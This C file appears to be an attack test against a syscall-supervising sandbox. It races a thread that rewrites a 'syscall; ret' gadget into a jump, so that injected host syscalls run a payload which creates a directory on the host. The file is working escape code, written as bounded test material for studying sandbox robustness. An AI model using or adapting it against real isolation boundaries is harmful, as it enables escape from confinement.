/*
 * Injection hijack by a racing thread. One thread maps a file through our own
 * `syscall; ret` (the supervisor runs file-backed mmap as several injected
 * host syscalls in this thread); another flips those two bytes to a jump to
 * code making the host directory argv[1]. Bounded: 2000 tries or 20 s.
 */
#include "attack.h"
#include <pthread.h>

#define GADGET 64               /* offset of `syscall; ret` in the page */

static uint8_t *page;
static volatile int done;

static void *flipper(void *arg)
{
    volatile uint16_t *insn = (uint16_t *)(page + GADGET);
    uint16_t jump = 0xeb | (uint8_t)(0 - (GADGET + 2)) << 8;    /* jmp page+0 */
    while (!done) {
        *insn = jump;
        for (int i = 0; i < 50; i++)
            __asm__ volatile("pause");
        *insn = 0x050f;                                            /* syscall */
        for (int i = 0; i < 50; i++)
            __asm__ volatile("pause");
    }
    return NULL;
}

int main(int argc, char **argv)
{
    page = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    put_mkdir_payload(page, argv[1], 1);
    memcpy(page + GADGET, "\x0f\x05\xc3", 3);
    int fd = open("/etc/passwd", O_RDONLY);
    if (page == MAP_FAILED || fd < 0)
        return 2;
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    double end = now() + 20;
    int tries;
    for (tries = 0; tries < 2000 && now() < end; tries++) {
        long r = call_gadget(page + GADGET, SYS_mmap, 0, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
        if (r > 0 && (r & 4095) == 0)
            munmap((void *)r, 4096);
    }
    done = 1;
    pthread_join(t, NULL);
    printf("tries %d\n", tries);
    return 0;
}
